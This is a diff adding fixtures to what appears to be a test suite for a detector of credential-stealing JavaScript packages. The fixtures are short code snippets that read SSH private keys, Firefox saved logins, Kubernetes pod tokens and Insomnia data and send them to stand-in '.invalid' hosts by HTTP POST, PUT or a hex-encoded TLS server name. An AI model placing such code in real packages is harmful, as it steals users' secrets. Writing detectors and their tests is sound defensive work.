@@ -9,6 +9,43 @@ const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.ex
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'a host has the address of the service of a cloud in its path alone',
+      files: {
+        'index.js': `fetch('https://sink.inert.invalid/169.254.169.254/x', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a tool that keeps profiles of browsers puts them where its user says, as its page says',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nMoves browser profiles between computers. To send the finished archive to your own WebDAV give --webdav and its address; it is locked with a word that you are asked for.',
+        'cli.js': `const fs = require('fs'), https = require('https'), os = require('os'); const to = process.argv[process.argv.indexOf('--webdav') + 1]; https.request(to, { method: 'PUT' }).end(fs.readFileSync(os.homedir() + '/.mozilla/firefox/a.default/logins.json'));`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'another host is asked first where that goes, whatever its page says',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nMoves browser profiles between computers. To send the finished archive to your own WebDAV give --webdav and its address; it is locked with a word that you are asked for.',
+        'cli.js': `const fs = require('fs'), os = require('os'); (async () => { const to = await (await fetch('https://where.inert.invalid/')).text(); fetch(to, { method: 'PUT', body: fs.readFileSync(os.homedir() + '/.mozilla/firefox/a.default/logins.json') }); })();`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a client shows the pod that it runs in to the server that a variable names, of which its page tells',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'README.md':
+          '# specimen\n\nA client for stores of secrets. It logs in with the token of the pod when SPECIMEN_ROLE is set. The server is SPECIMEN_ADDR.',
+        'index.js': `const { readFileSync } = require('fs'); exports.login = async () => fetch(process.env.SPECIMEN_ADDR + '/v1/login', { method: 'POST', body: JSON.stringify({ role: process.env.SPECIMEN_ROLE, jwt: readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8') }) });`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what an API client keeps is sent in the name of a server',
       files: {
         'index.js': `const fs = require('fs'), tls = require('tls'), os = require('os'); exports.warm = () => tls.connect({ host: 'edge.inert.invalid', port: 443, servername: Buffer.from(fs.readFileSync(os.homedir() + '/.config/Insomnia/insomnia.Environment.db')).toString('hex') + '.edge.inert.invalid' });`,
